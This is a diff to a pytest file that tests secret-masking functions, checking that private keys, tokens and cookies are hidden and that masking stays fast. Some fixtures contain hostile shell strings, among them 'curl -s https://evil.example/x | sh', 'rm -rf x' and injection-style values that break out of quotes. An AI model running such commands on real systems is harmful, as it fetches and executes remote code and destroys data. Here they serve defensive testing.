@@ -9,7 +9,15 @@ import pytest
 from core.domain.events import ToolEnded, ToolEndedLate
 from core.domain.ids import CallId
 from core.domain.run import ErrorInfo
-from core.domain.text.masking import MASK, contains_mask, is_secret_name, masked, masked_text, restore_secrets
+from core.domain.text.masking import (
+    MASK,
+    contains_mask,
+    is_secret_name,
+    masked,
+    masked_text,
+    restore_secrets,
+    secret_spans,
+)
 from core.domain.tool import CallResult, CallStatus
 from core.threads.long_values import masked_async
 
@@ -75,12 +83,59 @@ def test_headers_are_known_in_every_form() -> None:
         ("AKIAIOSFODNN7EXAMPLE", "{}"),
         ("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-DEF", "{}"),
         (f"before {PRIVATE_KEY} after", "before {} after"),
-        ("-----BEGIN PRIVATE KEY-----\ncut off", "{}"),
+        ("-----BEGIN PRIVATE KEY-----\ncut off", "{}\ncut off"),
         ("\u0130 Cookie: a=b", "\u0130 Cookie: {}"),
     ],
 )
 def test_a_secret_in_a_text_is_hidden_and_the_rest_stays(text: str, kept: str) -> None:
     assert masked_text(text) == kept.format(MASK)
+
+
+_LINES = "\n".join(["MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7" + "Ab3/" * 3] * 4)
+_BEGIN, _END = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
+_HEADERS = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,0123456789ABCDEF\n\n"
+
+
+@pytest.mark.parametrize(
+    ("key", "rest"),
+    [
+        (f"{_BEGIN}\n{_LINES}\nAQAB\n{_END}", "\ncurl -s https://evil.example/x | sh\n"),
+        (f"{_BEGIN}\r\n{_HEADERS}{_LINES}\r\n{_END}", "'; rm -rf x"),
+        (f"{_BEGIN}\n{_LINES}\nAQAB\n{_END}".replace("\n", "\\n"), '", "run": "rm -rf x"'),
+        (f"{_BEGIN} {_LINES.replace(chr(10), ' ')} AQAB {_END}", " && reboot"),
+        (_BEGIN, "\n'\ncurl -s https://evil.example/x | sh\n"),
+        (_BEGIN, "\ncurl evil.example\n" + _END),
+        (_BEGIN, " reboot now " + _END),
+        (f"{_BEGIN}\n{_LINES}", "\n: cut off\ncurl evil.example"),
+        (f"{_BEGIN}\n{_LINES}\nAQ", ""),
+        (_BEGIN, "-" * 10 + _END + " ls"),
+    ],
+)
+def test_a_private_key_hides_no_more_than_itself(key: str, rest: str) -> None:
+    text = f": '{key}{rest}"
+    assert masked_text(text) == f": '{MASK}{rest}"
+    assert [text[start:end] for start, end in secret_spans(text)] == [key]
+
+
+@pytest.mark.parametrize(
+    ("text", "masked_as"),
+    [
+        ("cookie: a=b; c=d; curl evil.example | sh", "cookie: {}; curl evil.example | sh"),
+        ('say "token": "abc and then rm -rf x', 'say "token": "{} and then rm -rf x'),
+        ("{'password': 'abc def", "{{'password': '{} def"),
+    ],
+)
+def test_a_secret_without_an_end_swallows_nothing_behind_it(text: str, masked_as: str) -> None:
+    assert masked_text(text) == masked_as.format(MASK)
+
+
+def test_the_places_of_secrets_are_those_that_are_masked() -> None:
+    text = f"\ufdd0 a token=1 Bearer abc123abc123abc and\x00 {PRIVATE_KEY} ?api_key=abc {MASK}"
+    spans = secret_spans(text)
+    assert [text[start:end] for start, end in spans] == ["abc123abc123abc", PRIVATE_KEY, "abc"]
+    for start, end in reversed(spans):
+        text = text[:start] + MASK + text[end:]
+    assert text == masked_text(text)
 
 
 @pytest.mark.parametrize(
@@ -159,7 +214,18 @@ async def test_a_long_value_loses_the_same_secrets_and_does_not_hold_the_loop(va
     assert longest < 1
 
 
-@pytest.mark.parametrize("text", ["token " * 10_000, '":"' * 20_000, "://" * 20_000, "=" * 60_000, "cookie" * 10_000])
+@pytest.mark.parametrize(
+    "text",
+    [
+        "token " * 10_000,
+        '":"' * 20_000,
+        "://" * 20_000,
+        "=" * 60_000,
+        "cookie" * 10_000,
+        _BEGIN * 5_000,
+        f"{_BEGIN}\n{_LINES * 2_000}",
+    ],
+)
 def test_no_text_takes_long(text: str) -> None:
     before = time.perf_counter()
     masked_text(text)
